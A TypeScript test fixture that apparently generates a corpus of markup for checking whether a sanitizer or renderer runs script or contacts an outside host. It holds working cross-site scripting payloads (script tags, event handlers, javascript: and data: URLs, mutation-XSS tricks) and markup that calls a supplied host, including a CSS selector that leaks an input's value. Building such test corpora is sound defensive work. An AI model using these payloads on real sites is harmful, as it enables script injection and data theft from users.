/** Markup that does something when it is taken for markup: runs code, or asks a host. `url(name)` is an address at that host. */
export function corpusOf(
  origin: string,
): readonly { name: string; markup: string }[] {
  const url = (name: string): string => `${origin}/${name}`;
  // Seen on the page, by whoever embeds a frame, and at the host.
  const run = (name: string): string =>
    `try{top.attacked='${name}'}catch{};parent.postMessage('attacked by ${name}','*');fetch('${url(`ran-${name}`)}')`;
  const coded: Record<string, string> = {
    script: `<script>${run("script")}</script>`,
    "script-of-svg": `<svg><script>${run("script-of-svg")}</script></svg>`,
    "script-src": `<script src="${url("script-src.js")}"></script>`,
    "module-src": `<script type="module" src="${url("module-src.js")}"></script>`,
    onerror: `<img src=x onerror="${run("onerror")}">`,
    onload: `<svg onload="${run("onload")}"></svg>`,
    ontoggle: `<details open ontoggle="${run("ontoggle")}">x</details>`,
    onfocus: `<input autofocus onfocus="${run("onfocus")}">`,
    onanimation: `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${run("onanimation")}">x</b>`,
    onbegin: `<svg><animate attributeName="x" dur="1s" onbegin="${run("onbegin")}"/></svg>`,
    onmedia: `<video><source src=x onerror="${run("onmedia")}"></video>`,
    srcdoc: `<iframe srcdoc="<script>${run("srcdoc").replaceAll('"', "")}</script>"></iframe>`,
    "javascript-frame": `<iframe src="javascript:${run("javascript-frame")}"></iframe>`,
    "javascript-link": `<a href="javascript:${run("javascript-link")}">x</a>`,
    "javascript-link-hidden": `<a href=" java&#10;script&colon;${run("javascript-link-hidden")}">x</a>`,
    "javascript-object": `<object data="javascript:${run("javascript-object")}"></object>`,
    "javascript-mathml": `<math><maction xlink:href="javascript:${run("javascript-mathml")}">x</maction></math>`,
    "javascript-svg": `<svg><a xlink:href="javascript:${run("javascript-svg")}"><text y="9">x</text></a></svg>`,
    "javascript-form": `<form action="javascript:${run("javascript-form")}"><button>x</button></form>`,
    "data-frame": `<iframe src="data:text/html,<script>${run("data-frame").replaceAll('"', "")}</script>"></iframe>`,
    "mutated-noscript": `<noscript><p title="</noscript><img src=x onerror=${run("mutated-noscript")}>">`,
    "mutated-math": `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run("mutated-math")}>">`,
    "mutated-template": `<svg><style><img src="</style><img src=x onerror=${run("mutated-template")}>">`,
    "closing-tags": `"'></textarea></title></style></script>--><script>${run("closing-tags")}</script>`,
  };
  const asked: Record<string, string> = {
    img: `<img src="${url("img")}">`,
    srcset: `<img srcset="${url("srcset")} 1x">`,
    picture: `<picture><source srcset="${url("picture")}"><img></picture>`,
    "svg-image": `<svg><image href="${url("svg-image")}"/></svg>`,
    "svg-use": `<svg><use href="${url("svg-use.svg")}#a"/></svg>`,
    "svg-filter": `<svg><filter id="f"><feImage href="${url("svg-filter")}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    poster: `<video poster="${url("poster")}"></video>`,
    video: `<video src="${url("video")}" autoplay muted></video>`,
    audio: `<audio src="${url("audio")}" preload="auto"></audio>`,
    track: `<video src="data:video/mp4," crossorigin><track default src="${url("track")}"></video>`,
    iframe: `<iframe src="${url("iframe")}"></iframe>`,
    object: `<object data="${url("object")}"></object>`,
    embed: `<embed src="${url("embed")}">`,
    "input-image": `<input type="image" src="${url("input-image")}">`,
    stylesheet: `<link rel="stylesheet" href="${url("stylesheet.css")}">`,
    preload: `<link rel="preload" as="fetch" crossorigin href="${url("preload")}">`,
    modulepreload: `<link rel="modulepreload" href="${url("modulepreload.js")}">`,
    prefetch: `<link rel="prefetch" href="${url("prefetch")}"><link rel="dns-prefetch" href="${origin}"><link rel="preconnect" href="${origin}">`,
    icon: `<link rel="icon" href="${url("icon")}">`,
    manifest: `<link rel="manifest" href="${url("manifest.json")}">`,
    "css-import": `<style>@import "${url("css-import.css")}";</style>`,
    "css-url": `<b style="background:url(${url("css-url")})">x</b>`,
    "css-font": `<style>@font-face{font-family:e;src:url(${url("css-font")})}</style><b style="font-family:e">x</b>`,
    "css-cursor": `<b style="cursor:url(${url("css-cursor")}),auto;list-style:url(${url("css-list")});border-image:url(${url("css-border")})">x</b>`,
    "css-attribute": `<style>input[value^="s"]{background:url(${url("css-attribute")})} *{--attacked:1}</style><input value="secret">`,
    refresh: `<meta http-equiv="refresh" content="0;url=${url("refresh")}">`,
    base: `<base href="${origin}/base/"><img src="relative">`,
    ping: `<a href="#x" ping="${url("ping")}">x</a>`,
    form: `<form action="${url("form")}" method="post"><input name="a" value="b"><button>x</button></form>`,
    background: `<table background="${url("background")}"><tr><td>x</td></tr></table>`,
    portal: `<portal src="${url("portal")}"></portal><fencedframe src="${url("fencedframe")}"></fencedframe>`,
    markdown: `![x](${url("markdown")}) ![x][r] <${url("autolink")}>\n\n[r]: ${url("markdown-reference")}`,
    "markdown-script": `[x](javascript:${run("markdown-script")}) [x](JaVaScRiPt&colon;alert) [x](data:text/html,x) [x](vbscript:x) [x](//x)`,
  };
  return Object.entries({ ...coded, ...asked }).map(([name, markup]) => ({
    name,
    markup,
  }));
}
